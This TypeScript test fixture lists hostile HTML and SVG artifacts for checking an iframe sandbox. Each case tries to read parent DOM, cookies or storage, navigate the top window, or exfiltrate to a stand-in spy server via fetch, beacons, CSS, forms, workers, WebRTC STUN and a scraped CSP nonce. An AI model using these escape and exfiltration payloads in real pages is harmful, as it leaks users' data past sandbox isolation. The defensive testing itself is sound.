/**
 * The hostile artifact suite: artifacts that try to reach outside their frame —
 * the parent's DOM, cookies and storage, the top window, popups, and every way of
 * sending a request to a loopback spy server (fetch, XHR, WebSocket, EventSource,
 * beacons, images, CSS, fonts, scripts, frames, prefetch, forms, meta refresh,
 * navigation, workers, WebRTC's ICE traffic to a STUN server, from the frame itself and
 * from nested frames) — plus script inside an SVG artifact.
 *
 * Each HTML case runs its attempts and writes what happened into its own document
 * (`<html data-done data-results>`), which the test reads through Chromium: so the
 * test knows the artifact's script did run and that every attempt failed. The spies
 * (an HTTP server, and a UDP listener named as the STUN server) must receive nothing.
 */

/** One hostile artifact. */
export interface HostileCase {
  name: string;
  kind: "html" | "svg";
  /**
   * The artifact's content, given the spy server's origin and a STUN server URL
   * (`stun:127.0.0.1:<port>`) whose UDP listener is a spy too.
   */
  content: (spy: string, stun: string) => string;
}

/** The script every HTML case ends with: it records results and marks the document done. */
function attempts(body: string, waitMs = 700): string {
  return `<script>
const results = {};
async function attempt(name, fn) {
  // An attempt that never settles counts as failed after 1.5 s, so the next one still runs.
  const late = new Promise((_, no) => setTimeout(() => no(new Error("timeout")), 1500));
  try { const v = await Promise.race([fn(), late]); results[name] = "succeeded: " + String(v).slice(0, 80); }
  catch (e) { results[name] = "failed: " + (e && (e.message === "timeout" ? "timeout" : e.name) || e); }
}
(async () => {
${body}
await new Promise((r) => setTimeout(r, ${waitMs}));
document.documentElement.dataset.results = JSON.stringify(results);
document.documentElement.dataset.done = "1";
})();
</script>`;
}

/** Defines `ice(Ctor)`: a peer connection gathering candidates through `stun`; resolves once it has offered. */
function iceFunction(stun: string): string {
  return `const ice = (Ctor) => new Promise((ok, no) => {
  const pc = new Ctor({ iceServers: [{ urls: "${stun}" }] });
  pc.createDataChannel("leak");
  pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => setTimeout(() => ok("offered"), 600), no);
});`;
}

/** One-line script for a nested frame: gathers candidates through `stun` with its own realm's constructor. */
function iceScript(stun: string): string {
  return `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${
    stun.slice("stun:".length)
  }' }] }); pc.createDataChannel('leak'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`;
}

/** The cases, at least 15. */
export const HOSTILE_CASES: HostileCase[] = [
  {
    name: "read the parent's DOM",
    kind: "html",
    content: () =>
      attempts(`await attempt("parent.document", () => parent.document.body.innerHTML.length);
await attempt("top.document", () => top.document.title);
await attempt("write parent", () => { parent.document.title = "pwned"; return "wrote"; });`),
  },
  {
    name: "read cookies",
    kind: "html",
    content: () =>
      attempts(`await attempt("document.cookie", () => document.cookie);
await attempt("cookieStore", () => cookieStore.getAll().then((c) => JSON.stringify(c)));`),
  },
  {
    name: "read storage",
    kind: "html",
    content: () =>
      attempts(`await attempt("localStorage", () => localStorage.getItem("canary"));
await attempt("sessionStorage", () => sessionStorage.length);
await attempt("indexedDB", () => new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("opened"); r.onerror = () => no(r.error); }));
await attempt("caches", () => caches.keys());`),
  },
  {
    name: "navigate the top window",
    kind: "html",
    content: (spy) =>
      attempts(
        `await attempt("top.location", () => { top.location.href = "${spy}/top"; return "assigned"; });
await attempt("parent.location", () => { parent.location = "${spy}/parent"; return "assigned"; });`,
      ),
  },
  {
    name: "open popups",
    kind: "html",
    content: (spy) =>
      attempts(
        `await attempt("window.open", () => { const w = window.open("${spy}/popup"); if (!w) throw new Error("null"); return "opened"; });
await attempt("target=_blank link", () => { const a = document.createElement("a"); a.href = "${spy}/blank"; a.target = "_blank"; document.body.append(a); a.click(); return "clicked"; });`,
      ),
  },
  {
    name: "fetch",
    kind: "html",
    content: (spy) =>
      attempts(`await attempt("fetch", () => fetch("${spy}/fetch").then((r) => r.status));
await attempt("fetch no-cors", () => fetch("${spy}/fetch-no-cors", { mode: "no-cors" }).then((r) => r.type));`),
  },
  {
    name: "XHR",
    kind: "html",
    content: (spy) =>
      attempts(
        `await attempt("xhr", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", "${spy}/xhr"); x.onload = () => ok(x.status); x.onerror = () => no(new Error("xhr error")); x.send(); }));`,
      ),
  },
  {
    name: "WebSocket",
    kind: "html",
    content: (spy) =>
      attempts(
        `await attempt("websocket", () => new Promise((ok, no) => { const w = new WebSocket("${
          spy.replace("http", "ws")
        }/ws"); w.onopen = () => ok("open"); w.onerror = () => no(new Error("ws error")); }));`,
      ),
  },
  {
    name: "EventSource and sendBeacon",
    kind: "html",
    content: (spy) =>
      attempts(
        `await attempt("eventsource", () => new Promise((ok, no) => { const e = new EventSource("${spy}/sse"); e.onopen = () => ok("open"); e.onerror = () => no(new Error("sse error")); }));
await attempt("sendBeacon", () => { if (!navigator.sendBeacon("${spy}/beacon", "x")) throw new Error("refused"); return "queued"; });`,
      ),
  },
  {
    name: "image beacons",
    kind: "html",
    content: (spy) =>
      `<img src="${spy}/img-tag" alt="">` +
      attempts(
        `await attempt("new Image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => no(new Error("img error")); i.src = "${spy}/img-js"; }));`,
      ),
  },
  {
    name: "CSS and font beacons",
    kind: "html",
    content: (spy) =>
      `<style>@import url("${spy}/css-import"); body { background: url("${spy}/css-bg"); }
@font-face { font-family: x; src: url("${spy}/font.woff2"); } p { font-family: x; }</style><p>text</p>` +
      `<link rel="stylesheet" href="${spy}/css-link">` +
      attempts(
        `await attempt("css background", () => getComputedStyle(document.body).backgroundImage);`,
      ),
  },
  {
    name: "form posts",
    kind: "html",
    content: (spy) =>
      `<form id="f" action="${spy}/form" method="post"><input name="q" value="secret"></form>` +
      attempts(
        `await attempt("form.submit", () => { document.getElementById("f").submit(); return "submitted"; });
await attempt("requestSubmit", () => { document.getElementById("f").requestSubmit(); return "submitted"; });`,
      ),
  },
  {
    name: "meta refresh",
    kind: "html",
    content: (spy) =>
      // One second: the results are written first (a refresh that went anywhere replaces them).
      `<meta http-equiv="refresh" content="1; url=${spy}/refresh">` +
      attempts(`await attempt("still here", () => "yes");`, 0),
  },
  {
    name: "navigate the frame itself",
    kind: "html",
    // The results are written first: a navigation, if it went anywhere, replaces the document.
    content: (spy) =>
      attempts(
        `await attempt("location.href", () => { setTimeout(() => { location.href = "${spy}/self"; }, 900); return "scheduled"; });
await attempt("link click", () => { const a = document.createElement("a"); a.href = "${spy}/link"; document.body.append(a); setTimeout(() => a.click(), 1000); return "scheduled"; });`,
        0,
      ),
  },
  {
    name: "external script, module, worker and nested frame",
    kind: "html",
    content: (spy) =>
      `<script src="${spy}/script.js"></script><iframe src="${spy}/nested"></iframe>` +
      `<link rel="prefetch" href="${spy}/prefetch"><link rel="preload" as="script" href="${spy}/preload.js">` +
      attempts(`await attempt("import()", () => import("${spy}/module.js"));
await attempt("worker", () => new Promise((ok, no) => { const w = new Worker("${spy}/worker.js"); w.onerror = () => no(new Error("worker error")); setTimeout(() => ok("no error"), 300); }));
await attempt("blob worker", () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spy}/from-worker')"]))); w.onerror = () => no(new Error("worker error")); setTimeout(() => ok("no error"), 300); }));`),
  },
  {
    name: "WebRTC to a STUN server, from the frame and from nested frames",
    kind: "html",
    // A nested frame's own script needs the nonce the artifact's scripts carry: it reads its own.
    content: (_spy, stun) =>
      `<iframe srcdoc="&lt;script>${iceScript(stun)}&lt;/script>"></iframe>` +
      attempts(`const nonce = document.currentScript && document.currentScript.nonce;
${iceFunction(stun)}
await attempt("RTCPeerConnection", () => ice(RTCPeerConnection));
await attempt("webkitRTCPeerConnection", () => ice(webkitRTCPeerConnection));
await attempt("nested about:blank frame", () => { const f = document.createElement("iframe"); document.body.append(f); return ice(f.contentWindow.RTCPeerConnection); });
await attempt("frames[] after innerHTML", () => { const d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.append(d); return ice(frames[frames.length - 1].RTCPeerConnection); });
await attempt("window.open", () => { const w = open("about:blank"); if (!w) throw new Error("null"); return ice(w.RTCPeerConnection); });
await attempt("read the nonce", () => new Promise((ok, no) => {
  addEventListener("securitypolicyviolation", (e) => { if (/nonce-/.test(e.originalPolicy)) ok("from a violation"); });
  const seen = [nonce, ...[...document.scripts].map((s) => s.nonce || s.getAttribute("nonce"))].filter(Boolean);
  if (seen.length) ok("from a script");
  if ([...document.querySelectorAll("meta")].some((m) => /nonce/.test(m.content))) ok("from the policy");
  const s = document.createElement("script"); s.textContent = "1"; document.body.append(s);
  setTimeout(() => no(new Error("none found")), 300);
}));
await attempt("nested srcdoc frame", () => new Promise((ok) => { const f = document.createElement("iframe"); f.srcdoc = "<" + "script nonce='" + nonce + "'>${
        iceScript(stun)
      }<" + "/script>"; document.body.append(f); setTimeout(() => ok("inserted"), 1000); }));`),
  },
  {
    name: "messages to the parent other than a size",
    kind: "html",
    content: (spy) =>
      attempts(
        `await attempt("fake size", () => { parent.postMessage({ type: "artifact-size", height: 1e9 }, "*"); return "posted"; });
await attempt("navigate message", () => { parent.postMessage({ type: "navigate", url: "${spy}/msg" }, "*"); return "posted"; });
await attempt("size with extra", () => { parent.postMessage({ type: "artifact-size", height: 5, href: "${spy}/x" }, "*"); return "posted"; });`,
      ),
  },
  {
    name: "script inside an SVG artifact",
    kind: "svg",
    content: (spy) =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="80" onload="fetch('${spy}/svg-onload')">` +
      `<script>fetch("${spy}/svg-script"); parent.document.title = "pwned";</script>` +
      `<image href="${spy}/svg-image" width="10" height="10"/><style>@import url("${spy}/svg-css");</style>` +
      `<foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${spy}/svg-frame"></iframe></foreignObject>` +
      `<rect width="200" height="80" fill="#fde68a"/><text x="10" y="45">hostile svg</text></svg>`,
  },
];

/**
 * Attempts that "succeed" without doing harm: assigning a URL that CSP or the sandbox then
 * blocks, queueing a navigation, posting a message the parent ignores, a worker whose
 * failure shows only as a console error. The spy server and the page's state are the
 * judges of those.
 */
export const HARMLESS_IF_SUCCEEDED = new Set([
  "still here",
  "location.href",
  "link click",
  "fake size",
  "navigate message",
  "size with extra",
  "target=_blank link",
  "form.submit",
  "requestSubmit",
  "worker",
  "blob worker",
  "css background",
  // Queued, then refused by connect-src when it is sent (as on an ARTIFACT_ORIGIN frame).
  "sendBeacon",
  // The nested frame's own script is judged by the STUN spy: a binding request is a leak.
  "nested srcdoc frame",
]);
